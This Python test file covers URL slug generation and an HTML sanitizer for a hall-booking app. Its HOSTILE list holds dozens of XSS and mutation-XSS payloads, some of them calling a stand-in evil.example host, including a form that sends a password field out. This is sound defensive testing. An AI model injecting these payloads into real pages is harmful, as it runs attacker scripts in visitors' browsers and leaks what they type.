"""Addresses of pages, and what cleaning leaves of HTML: the corpus is what people have broken into pages with."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hallbooking_desktop.domain.errors import ValidationFailed
from hallbooking_desktop.domain.pages import LONGEST_SLUG, is_slug, slug_of
from hallbooking_desktop.services.html import _ALLOWED, _ANYWHERE, clean_html
from hallbooking_desktop.services.page_html import VOCABULARY


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("About us", "about-us"),
        ("  Terms & Conditions (2030) ", "terms-and-conditions-2030"),
        ("Hausordnung für Gäste – Groß", "hausordnung-fur-gaste-gross"),
        ("What's new?", "whats-new"),
        ("Œuvres d’été", "oeuvres-dete"),
        ("من نحن", ""),
        ("会社概要", ""),
        ("---", ""),
        ("ﬁnal ①", "final-1"),
    ],
)
def test_a_title_suggests_an_address(title: str, slug: str) -> None:
    """Addresses would be unreadable, or break links."""
    assert slug_of(title) == slug


@given(st.text(max_size=300))
def test_a_suggested_address_is_one(title: str) -> None:
    """A title that somebody types would make a page that cannot be opened."""
    slug = slug_of(title)
    assert slug == "" or is_slug(slug)
    assert slug_of(slug) == slug
    assert len(slug) <= LONGEST_SLUG


@pytest.mark.parametrize("text", ["", "About", "a b", "-a", "a-", "a--b", "a/b", "ä", "a" * 81, "a\n", "..", "a.b"])
def test_what_is_no_address_is_refused(text: str) -> None:
    """A page could hide behind an address that nothing leads to."""
    assert not is_slug(text)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
    "<script>unclosed",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))' class=x id=y onclick=alert(1)>styled</p>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src=javascript:alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='http:\\\\evil.example/pixel.gif'>",
    "<img src=/media/../users>",
    "<img src=/media/a?b=c srcset='javascript:alert(1) 1x'>",
    '<img src="http://a.example/b" alt="&quot; onerror=&quot;alert(1)">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01java\tscript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='&#106;&#x61;vascript&#58;alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:http://x/y'>x</a><a href='file:///etc/passwd'>y</a><a href='ftp://x/y'>z</a>",
    "<a href='https://a.example' target=_blank rel=opener ping=//evil.example>x</a>",
    "<svg onload=alert(1)><script>alert(2)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><details ontoggle=alert(1) open>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<template><script>alert(1)</script></template><select><template><style></select><img src=x onerror=alert(1)>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<table><td background=javascript:alert(1)>x<script>alert(1)</script>",
    "<a href=https://a.example><a href=javascript:alert(1)>nested</a></a>",
    "<b><i><u></b></i><p><a href='#x'><h1></a></p>",
    "<p/onclick=alert(1)>a</p><p\x0conclick=alert(1)>b</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p lang=\"x' onclick='alert(1)\" dir=up>x</p>",
    "<custom-element onclick=alert(1)>text stays</custom-element>",
]


class _Reader(HTMLParser):
    """Another parser's view of what was cleaned."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def check_clean(html: str) -> None:
    """Fail unless another parser finds nothing in it but what is allowed, and cleaning again changes nothing."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    assert reader.others == []
    for tag, attributes in reader.tags:
        assert tag in VOCABULARY, html
        for name, value in attributes.items():
            if (tag, name) == ("a", "rel"):
                continue
            assert name in _ANYWHERE or (tag, name) in _ALLOWED, html
            if name in {"href", "src"}:
                scheme, colon, _ = re.sub(r"[\s\x00-\x20]", "", value or "").partition(":")
                assert not colon or scheme.lower() in {"http", "https", "mailto", "tel"} or "/" in scheme, html
        assert tag != "img" or re.match(r"https?://|/media/[\w-]+", attributes.get("src") or ""), html
        assert tag != "a" or attributes["rel"] == "noopener", html
    assert clean_html(html) == html


@pytest.mark.parametrize("typed", HOSTILE)
def test_nothing_hostile_is_left(typed: str) -> None:
    """A page could run a stranger's program in the lobby, or send what visitors type elsewhere."""
    for html in (typed, f"<p>before {typed} after</p>", typed.replace("'", '"'), f"<table><tr><td>{typed}"):
        cleaned = clean_html(html)
        check_clean(cleaned)
        assert "<script" not in cleaned.lower()


@given(st.lists(st.sampled_from([*HOSTILE, "</p>", "<p>", "</style>", "-->", "<!--", "'", '"', ">", "<"]), max_size=6))
def test_pieces_of_hostile_pages_put_together_are_clean_too(pieces: list[str]) -> None:
    """Two harmless halves could make a harmful whole."""
    check_clean(clean_html("".join(pieces)))


@given(st.text(max_size=200))
def test_any_text_can_be_cleaned(text: str) -> None:
    """A page could not be saved because of a letter in it."""
    check_clean(clean_html(text))


@pytest.mark.parametrize(
    "typed",
    ["x" * 200_001, "<blockquote>" * 3_000, "<p " * 60_000, "<b>" * 61, "<img src='data:" + "A" * 150_000 + "'>"],
    ids=["long", "deep", "one tag", "open tags", "pasted picture"],
)
@pytest.mark.timed
def test_what_would_take_a_parser_long_is_refused(typed: str) -> None:
    """One request could keep the endpoint busy for minutes."""
    begun = time.monotonic()
    with pytest.raises(ValidationFailed) as refused:
        clean_html(typed)
    assert refused.value.fields.keys() == {"html_content"}
    assert time.monotonic() - begun < 2
